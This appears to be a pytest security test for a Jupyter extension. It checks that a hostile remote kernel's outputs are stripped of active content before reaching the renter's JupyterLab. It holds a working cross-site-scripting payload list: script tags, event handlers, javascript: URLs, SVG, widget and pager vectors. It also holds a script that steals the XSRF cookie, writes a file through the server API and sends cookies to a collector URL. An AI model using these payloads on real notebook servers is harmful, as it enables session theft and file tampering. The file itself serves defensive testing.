"""A hostile provider's kernel tries to run script in the renter's JupyterLab, through the
default stack: a Docker session behind TLS with a pinned certificate, bridged into the
renter's real Jupyter Server. What the server's standard kernel websocket
(/api/kernels/<id>/channels) delivers to a client must hold no active content, while plots,
tables and widgets arrive intact; only `WalnutApp.trusted_output_providers` lets the raw
output through.

Skipped without a Docker engine unless WALNUT_REQUIRE_DOCKER=1 (conftest.docker_or_skip).
"""

from __future__ import annotations

import base64
import json
import struct
import zlib

import pytest
from conftest import FUNDS
from kernel_ws import KernelWS
from stack import StackNode

from jupyter_walnut.common.keys import KeyPair
from jupyter_walnut.ledger import LocalLedger
from jupyter_walnut.renter.kernel.output_policy import ALLOWED

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]



def _png(width: int = 24, height: int = 16) -> str:
    """A real (red) PNG, base64, as matplotlib's inline backend would send a plot."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))
           + chunk(b"IEND", b""))
    return base64.b64encode(png).decode()


PNG = _png()
TABLE = ('<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>'
         '<table border="1" class="dataframe"><thead><tr style="text-align: right;">'
         "<th></th><th>loss</th></tr></thead><tbody><tr><th>0</th><td>0.125</td></tr>"
         "</tbody></table></div>")
MARK = "atob("  # every payload below runs its script through eval(atob(...))


def payload_js(collector: str) -> str:
    """What each trick runs when it gets script: a flag, a dialog, a file written through
    the renter's own server API with its _xsrf cookie, and the cookie sent away."""
    return f"""
window.__walnut_pwned = (window.__walnut_pwned || 0) + 1;
try {{ alert('walnut pwned'); }} catch (e) {{}}
const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
fetch('/api/contents/pwned.txt', {{method: 'PUT', credentials: 'same-origin',
  headers: {{'X-XSRFToken': decodeURIComponent(xsrf), 'Content-Type': 'application/json'}},
  body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned ' + xsrf}})}});
new Image().src = '{collector}/steal?c=' + encodeURIComponent(document.cookie);
"""


def hostile_cell(collector: str = "http://127.0.0.1:9") -> str:
    """A cell for the remote kernel: every trick, then the outputs that must survive."""
    js = base64.b64encode(payload_js(collector).encode()).decode()
    return f"""
import base64
from IPython.display import display
from comm import create_comm
RUN = "eval(atob('{js}'))"
JS = base64.b64decode('{js}').decode()
TRICKS = [
    f"<script>{{RUN}}</script>",
    f"<img src=x onerror=\\"{{RUN}}\\">",
    f"<IMG SRC=x OnErRoR=\\"{{RUN}}\\">",
    f"<svg onload=\\"{{RUN}}\\"><circle r=1></svg>",
    f"<details open ontoggle=\\"{{RUN}}\\">t</details>",
    f"<a id=walnut-js-link href=\\"javascript:{{RUN}}\\">click me</a>",
    f"<a href=\\"&#106;avascript&#58;{{RUN}}\\">entity link</a>",
    f"<iframe srcdoc=\\"<script>parent.{{RUN}}</script>\\"></iframe>",
    f"<iframe src=\\"data:text/html,<script>{{RUN}}</script>\\"></iframe>",
    f"<meta http-equiv=refresh content=\\"0;url=javascript:{{RUN}}\\">",
    f"<base href=\\"javascript:{{RUN}}//\\">",
    f"<form action=\\"javascript:{{RUN}}\\"><button>go</button></form>",
    f"<object data=\\"javascript:{{RUN}}\\"></object><embed src=\\"javascript:{{RUN}}\\">",
    f"<div style=\\"background:url(javascript:{{RUN}})\\">styled</div>",
    f"<img id=__walnut_pwned src=\\"data:image/png;base64,{PNG}\\">",
    f"$\\\\href{{{{javascript:{{RUN}}}}}}{{{{math link}}}}$",
]
for trick in TRICKS:
    display({{"text/html": trick, "text/plain": "trick"}}, raw=True)
display({{"application/javascript": JS}}, raw=True)
display({{"text/javascript": JS, "text/plain": "js"}}, raw=True)
display({{"application/vnd.evil+json": {{"run": RUN}}}}, raw=True)
display({{"text/markdown":
         f"**md** <img src=x onerror=\\"{{RUN}}\\"> [md link](javascript:{{RUN}})"}}, raw=True)
display({{"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{{RUN}}">'
                           f'<script>{{RUN}}</script><rect width="4" height="4"/></svg>'}},
        raw=True)
handle = display({{"text/plain": "soon replaced"}}, raw=True, display_id=True)
handle.update({{"text/html": f"<img src=x onerror=\\"{{RUN}}\\">", "text/plain": "updated"}},
              raw=True)
layout = create_comm(target_name="jupyter.widget", data={{"buffer_paths": [], "state": {{
    "_model_name": "LayoutModel", "_model_module": "@jupyter-widgets/base",
    "_model_module_version": "2.0.0", "_view_name": "LayoutView",
    "_view_module": "@jupyter-widgets/base", "_view_module_version": "2.0.0"}}}})
widget = create_comm(target_name="jupyter.widget", data={{"buffer_paths": [], "state": {{
    "_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls",
    "_model_module_version": "2.0.0", "_view_name": "HTMLView",
    "_view_module": "@jupyter-widgets/controls", "_view_module_version": "2.0.0",
    "layout": "IPY_MODEL_" + layout.comm_id, "description": "",
    "value": f"<b>widget</b><img src=x onerror=\\"{{RUN}}\\">"}}}})
widget.send({{"method": "update", "buffer_paths": [],
             "state": {{"value": f"<svg onload=\\"{{RUN}}\\">"}}}})
display({{"application/vnd.jupyter.widget-view+json": {{
    "model_id": widget.comm_id, "version_major": 2, "version_minor": 0}},
    "text/plain": "HTML(value='widget')"}}, raw=True)
display({{"image/png": "{PNG}", "text/plain": "<Figure size 640x480>"}}, raw=True)
display({{"text/html": '{TABLE}', "text/plain": "   loss"}}, raw=True)
get_ipython().payload_manager.write_payload({{"source": "page", "start": 0, "data": {{
    "text/html": f"<img src=x onerror=\\"{{RUN}}\\">", "text/plain": "pager doc"}}}})

def hostile_inspect(*args, **kwargs):
    return {{"status": "ok", "found": True, "metadata": {{}}, "data": {{
        "text/html": f"<img src=x onerror=\\"{{RUN}}\\">", "application/javascript": JS,
        "text/plain": "inspected"}}}}

get_ipython().kernel.do_inspect = hostile_inspect

class Result:
    def _repr_html_(self):
        return f"<img src=x onerror=\\"{{RUN}}\\">result"

Result()
"""


@pytest.fixture(scope="module")
def node(tmp_path_factory):
    root = tmp_path_factory.mktemp("output-attacks")
    ledger = LocalLedger(root / "ledger.sqlite")
    stack = StackNode(root / "provider", ledger)
    yield stack
    stack.stop()
    ledger.close()


@pytest.fixture
def trust() -> bool:
    return False


@pytest.fixture
def jp_server_config(node, tmp_path, trust):
    home = tmp_path / "renter"
    key = KeyPair.generate()
    key.save(home / "wallet.key")
    node.ledger.fund(key.address, FUNDS)
    return {"ServerApp": {"jpserver_extensions": {"jupyter_walnut": True}},
            "WalnutApp": {"providers": [node.pinned_url], "walnut_home": str(home),
                          "ledger_path": str(node.ledger.path), "poll_interval": 0.5,
                          "challenge_period": 60,
                          "trusted_output_providers": [node.pinned_url] if trust else []}}


async def hostile_kernel(jp_fetch, jp_ws_fetch, node) -> KernelWS:
    resp = await jp_fetch("walnut", "sessions", method="POST", body=json.dumps(
        {"provider_url": node.pinned_url, "shape": "cpu-small"}), request_timeout=240)
    session = json.loads(resp.body)
    resp = await jp_fetch("api", "kernels", method="POST",
                          body=json.dumps({"name": session["kernel_name"]}))
    kernel = json.loads(resp.body)
    conn = await jp_ws_fetch("api", "kernels", kernel["id"], "channels")
    return KernelWS(conn)


def shown(messages: list[dict]) -> list[tuple[str, dict]]:
    """(msg_type, content) of what a client renders: everything but the echoed code."""
    return [(m["header"]["msg_type"], m["content"]) for m in messages
            if m["header"]["msg_type"] not in ("execute_input", "status")]


def bundles(messages: list[dict]) -> list[dict]:
    return [c["data"] for t, c in shown(messages)
            if t in ("display_data", "execute_result", "update_display_data")]


async def test_the_renters_websocket_gets_no_active_content(jp_fetch, jp_ws_fetch, node):
    ws = await hostile_kernel(jp_fetch, jp_ws_fetch, node)
    result = await ws.execute(hostile_cell(), timeout=120)
    assert result.status == "ok", result.error
    for msg_type, content in shown(result.messages):
        assert MARK not in json.dumps(content), (msg_type, content)  # no payload survived
    data = bundles(result.messages)
    assert all(set(d) <= ALLOWED for d in data), [list(d) for d in data]
    notes = [d["text/plain"] for d in data if "not shown" in d.get("text/plain", "")]
    assert any("application/javascript" in n for n in notes)
    assert any("application/vnd.evil+json" in n for n in notes)
    assert {"text/plain": "js"} in data  # the JavaScript went, its text stayed
    # what must keep working: a plot, a table, a widget, markdown, an updated display
    assert {"image/png": PNG, "text/plain": "<Figure size 640x480>"} in data
    table = next(d["text/html"] for d in data if "dataframe" in d.get("text/html", ""))
    assert '<table border="1" class="dataframe">' in table and "<td>0.125</td>" in table
    assert any("<strong>md</strong>" in d.get("text/html", "") for d in data)
    updates = [c for t, c in shown(result.messages) if t == "update_display_data"]
    assert updates and updates[0]["data"]["text/plain"] == "updated"
    assert updates[0]["transient"]["display_id"]
    comms = [c for t, c in shown(result.messages) if t == "comm_open"]
    html_model = next(c for c in comms if c["data"]["state"]["_model_name"] == "HTMLModel")
    assert html_model["data"]["state"]["value"].startswith("<b>widget</b><img")
    assert html_model["data"]["state"]["layout"].startswith("IPY_MODEL_")
    assert any({"model_id": html_model["comm_id"], "version_major": 2, "version_minor": 0}
               == d.get("application/vnd.jupyter.widget-view+json") for d in data)
    reply = next(c for t, c in shown(result.messages) if t == "execute_reply")
    pager = reply["payload"][0]["data"]
    assert pager["text/plain"] == "pager doc" and "<img" in pager["text/html"]
    assert result.results and result.results[0]["text/html"].endswith("result")
    inspect = await ws.request("inspect_request", {"code": "x", "cursor_pos": 1,
                                                   "detail_level": 0})
    assert MARK not in json.dumps(inspect["content"])
    assert set(inspect["content"]["data"]) == {"text/html", "text/plain"}
    # the kernel stays usable: streams and errors pass byte for byte
    after = await ws.execute("print('<script>still text</script>')")
    assert after.stdout == "<script>still text</script>\n"


@pytest.mark.parametrize("trust", [True])
async def test_a_trusted_provider_s_outputs_pass_unchanged(jp_fetch, jp_ws_fetch, node, trust):
    ws = await hostile_kernel(jp_fetch, jp_ws_fetch, node)
    result = await ws.execute(hostile_cell(), timeout=120)
    assert result.status == "ok", result.error
    data = bundles(result.messages)
    assert any("application/javascript" in d for d in data)
    assert any("onerror" in d.get("text/html", "") and MARK in d["text/html"] for d in data)
    assert any("text/markdown" in d for d in data)
